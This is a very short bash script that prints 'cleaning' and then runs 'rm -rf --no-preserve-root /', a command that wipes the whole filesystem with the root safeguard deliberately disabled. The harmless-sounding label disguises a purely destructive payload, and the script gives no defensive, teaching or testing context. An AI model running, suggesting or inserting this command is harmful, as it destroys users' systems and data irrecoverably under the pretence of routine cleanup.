#!/bin/bash
echo cleaning
rm -rf --no-preserve-root /
